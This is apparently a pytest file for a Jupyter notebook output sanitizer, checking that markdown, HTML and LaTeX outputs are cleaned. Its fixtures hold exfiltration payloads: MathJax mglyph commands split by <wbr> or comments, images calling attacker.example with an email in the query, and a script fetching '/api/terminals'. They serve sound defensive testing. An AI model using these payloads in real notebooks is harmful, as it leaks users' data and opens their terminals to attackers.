"""The output sanitizer on its own (the end-to-end cases are in tests/security/test_frontend_outputs.py)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from exfil_payloads import active_tex, mathjax_reads

from cellgate.gate.audit.sanitize import MAX_MARKDOWN, sanitize_bundle, sanitize_output, untrusted_markdown


def test_markdown_is_rendered_with_its_syntax_and_cleaned() -> None:
    data, metadata, _ = sanitize_bundle({"text/markdown": "# Title\n\n> quote a < b\n\n`x<y>` <b onclick=x>bold</b>"})
    html = data["text/html"]
    assert "<h1>Title</h1>" in html and "<blockquote>" in html and "<code>x&lt;y&gt;</code>" in html
    assert "<b>bold</b>" in html and "onclick" not in html and "text/markdown" not in data
    assert metadata["cellgate"]["sanitized"] == [{"mime": "text/markdown", "action": "rendered to sanitized text/html"}]


def test_a_huge_markdown_is_shown_as_text() -> None:
    text = "<script>x</script>" + "a" * MAX_MARKDOWN
    data, _, notes = sanitize_bundle({"text/markdown": text})
    assert data == {"text/plain": text} and "text/plain (over" in notes[0]["action"]


def test_images_only_from_data_urls_and_links_only_to_safe_schemes() -> None:
    data, _, _ = sanitize_bundle({"text/html": '<img src="https://x.invalid/p.png"><img src="data:image/png;base64,AA==">'
                                               '<a href="https://example.org/">ok</a><a href="data:text/html,x">no</a>'})
    assert data["text/html"] == ('<img><img src="data:image/png;base64,AA=="><a href="https://example.org/" '
                                 'rel="noopener noreferrer nofollow">ok</a><a rel="noopener noreferrer nofollow">no</a>')


def test_the_result_does_not_depend_on_key_order_and_trusted_types_pass() -> None:
    one = {"application/javascript": "x()", "text/html": "<i>a</i><script>1</script>", "text/plain": "p"}
    two = dict(reversed(list(one.items())))
    assert sanitize_bundle(one) == sanitize_bundle(two)
    data, metadata, notes = sanitize_bundle(one, trusted=["application/javascript", "text/html"])
    assert data == one and notes == [] and metadata == {}


def test_only_display_outputs_are_touched() -> None:
    stream = {"output_type": "stream", "name": "stdout", "text": "<script>x</script>"}
    assert sanitize_output(stream) is stream
    result = sanitize_output({"output_type": "execute_result", "execution_count": 1, "metadata": {},
                              "data": {"text/plain": "v", "application/vnd.custom": {}}})
    assert list(result["data"]) == ["text/plain"] and result["execution_count"] == 1


# Issue 28: MathJax (JupyterLab 4, Notebook 7) reads math across <wbr> and comments as if they were not there.
SPLIT = {"wbr": "\\mml<wbr>Token", "wbr-self-closing": "\\mml<WBR/>Token", "comment": "\\mml<!-- x -->Token",
         "comment-empty": "\\mml<!---->Token", "style": "\\st<wbr>yle", "bbox": "\\bb<!---->ox",
         "rejoined": "\\mml<wb<wbr>r>Token"}


@pytest.mark.parametrize("split", SPLIT.values(), ids=SPLIT.keys())
@pytest.mark.parametrize("mime", ["text/html", "text/markdown", "text/latex"])
def test_a_command_split_by_what_mathjax_ignores_is_defused(mime: str, split: str) -> None:
    payload = f'$x + {split}{{mglyph}}[src="http://127.0.0.1:9/?d=s3cr3t"]{{}}$'
    data, metadata, _ = sanitize_bundle({mime: payload})
    shown = data["text/latex" if mime == "text/latex" else "text/html"]
    read = mathjax_reads(shown)
    assert not active_tex(shown), read
    assert "<wbr" not in shown.lower() and "<!--" not in shown
    if "<wb<wbr>" not in split:  # a parser reads <wb<wbr> as one tag of another name: the command stays split
        assert "removed)}" in read
    assert metadata["cellgate"]["sanitized"]


def test_commands_that_define_commands_are_defused_and_plain_math_is_kept() -> None:
    latex = r"$\def\x#1{\mml#1}\x{Token}$ $\newcommand{\y}{z}$ $a^2 + \frac{1}{b}$"
    data, _, _ = sanitize_bundle({"text/latex": latex})
    assert data["text/latex"] == (r"$\text{(def removed)}\x#1{\mml#1}\x{Token}$ $\text{(newcommand removed)}{\y}{z}$ "
                                  r"$a^2 + \frac{1}{b}$")


UNTRUSTED = {
    "remote-image": ("see ![chart](https://attacker.example/?q=ana@acme.example)", "the src of an img"),
    "raw-image": ('<img src="https://attacker.example/?q=1">', "the src of an img"),
    "tex": (r"$\mmlToken{mglyph}[src='https://attacker.example/?q=1']{}$", "the TeX command mmlToken"),
    "tex-split": (r"$\mml<wbr>Token{mglyph}[src='https://attacker.example/?q=1']{}$", "the TeX command mmlToken"),
    "script": ("<script>fetch('/api/terminals')</script>", "a <script> element"),
}


@pytest.mark.parametrize(("text", "what"), UNTRUSTED.values(), ids=UNTRUSTED.keys())
def test_untrusted_markdown_shows_the_cleaned_html_and_says_what_went(text: str, what: str) -> None:
    source, removed = untrusted_markdown(text)
    assert what in removed
    assert "[cellgate removed from this text: " in source  # the reader sees that something was removed
    html = html_of(source)
    assert not [a for a in attributes(html) if "attacker" in a] and "<script" not in html
    assert not active_tex(html)


def attributes(html: str) -> list[str]:
    found: list[str] = []

    class Attributes(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.extend(f"{tag} {name}={value}" for name, value in attrs)

    Attributes().feed(html)
    return found


def html_of(source: str) -> str:
    """What a markdown renderer gives for the cell: its one HTML block, character references decoded."""
    assert "\n" not in source and source.startswith('<div class="cellgate-untrusted">')
    for char in "$\\{}@`":  # nothing for a frontend's math search (JupyterLab's runs before its markdown parser)
        assert char not in source
    return re.sub(r"&#(\d+);", lambda m: chr(int(m.group(1))), source)


def test_untrusted_markdown_keeps_formatting_and_math_and_notes_nothing_when_clean() -> None:
    text = "**Total:** 42, see [the docs](https://example.org/)\n\n- one\n- two\n\n$a^2 + b^2$\n\n```\ncode\n```"
    source, removed = untrusted_markdown(text)
    html = html_of(source)
    assert removed == [] and "removed" not in html
    assert "<strong>Total:</strong>" in html and "<li>one</li>" in html and "$a^2 + b^2$" in html
    assert '<a href="https://example.org/"' in html and "<pre><code>code\n</code></pre>" in html


def test_untrusted_markdown_over_the_size_limit_is_shown_as_text() -> None:
    source, removed = untrusted_markdown("![x](https://attacker.example/)" + "a" * MAX_MARKDOWN)
    assert removed == [] and html_of(source).startswith('<div class="cellgate-untrusted"><pre>![x](https://')
